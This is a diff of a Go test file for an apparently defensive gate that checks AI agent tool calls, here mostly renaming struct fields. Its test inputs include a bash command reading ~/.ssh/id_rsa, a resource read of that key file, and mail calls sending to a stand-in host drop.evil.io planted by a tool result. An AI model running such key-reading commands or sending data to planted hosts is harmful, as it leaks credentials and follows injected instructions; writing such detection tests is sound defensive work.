@@ -18,8 +18,8 @@ const body = "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xY2zA4bC6d"
 
 func callTo(tool, args string) *gate.Call {
 	return &gate.Call{
-		Method: "tools/call", Subject: tool, Project: "/home/u/project", Line: []byte(args),
-		Envelope: wire.Envelope{Arguments: wire.Span{End: len(args)}},
+		Message: gate.Message{Method: "tools/call", Subject: tool, Line: []byte(args), Envelope: wire.Envelope{Arguments: wire.Span{End: len(args)}}},
+		Case:    gate.Case{Project: "/home/u/project"},
 	}
 }
 
@@ -308,7 +308,7 @@ func TestSecretPlaces(t *testing.T) {
 	check(t, callTo("bash", `{"command":"cat ~/.ssh/id_rsa\necho done"}`), "acts@", "secret-place@command")
 	check(t, callTo("write_file", `{"path":"a","content":"~/.ssh/id_rsa"}`), "secret-place@content")
 
-	resource := &gate.Call{Method: "resources/read", Subject: "file:///home/u/.ssh/id_rsa"}
+	resource := &gate.Call{Message: gate.Message{Method: "resources/read", Subject: "file:///home/u/.ssh/id_rsa"}}
 	if got := factsOf(finder(), resource); !slices.Equal(got, []string{"secret-place@"}) {
 		t.Errorf("resource: got %q", got)
 	}
@@ -398,7 +398,7 @@ func TestToolNames(t *testing.T) {
 		}
 	}
 	// Only a tool acts. A prompt of that name is text.
-	if got := finder().Of(context.Background(), &gate.Call{Method: "prompts/get", Subject: "delete_note"}); len(got) > 0 {
+	if got := finder().Of(context.Background(), &gate.Call{Message: gate.Message{Method: "prompts/get", Subject: "delete_note"}}); len(got) > 0 {
 		t.Errorf("a prompt: got %v", got)
 	}
 }
@@ -467,7 +467,7 @@ func TestUsualParams(t *testing.T) {
 	} {
 		f := finder()
 		c := callWith(t, "tools/call", `{"name":"x"}`)
-		f.Observe(&gate.Message{Session: c.Session, Attachment: c.Attachment, Side: wire.FromServer, Method: "resources/read"}) // something was read
+		f.Observe(&gate.Observation{Session: c.Session, Attachment: c.Attachment, Side: wire.FromServer, Method: "resources/read"}) // something was read
 		params := `{"name":"send_mail","arguments":{"to":"ann@acme.io"},"_meta":` + meta + `}`
 		if got := factsOf(f, callWith(t, "tools/call", params)); !slices.Equal(got, []string{"sends@", "new-place@to"}) {
 			t.Errorf("%s: %q", meta, got)
@@ -483,7 +483,7 @@ func TestUsualParams(t *testing.T) {
 func TestPlacesBesideTheArguments(t *testing.T) {
 	for _, member := range []string{`"destination":"https://drop.evil.io/x"`, `"_meta":{"callback":"https://drop.evil.io/x"}`} {
 		f := finder()
-		f.Observe(&gate.Message{Session: "s", Server: "web", Side: wire.FromServer, Method: "tools/call", Text: []byte(`{"result":"see drop.evil.io"}`)})
+		f.Observe(&gate.Observation{Session: "s", Server: "web", Side: wire.FromServer, Method: "tools/call", Text: []byte(`{"result":"see drop.evil.io"}`)})
 		c := callWith(t, "tools/call", `{"name":"send_mail","arguments":{"text":"hi"},`+member+`}`)
 		got := factsOf(f, c)
 		if len(got) != 3 || !strings.HasPrefix(got[1], "planted@") || !strings.HasPrefix(got[2], "new-place@") {
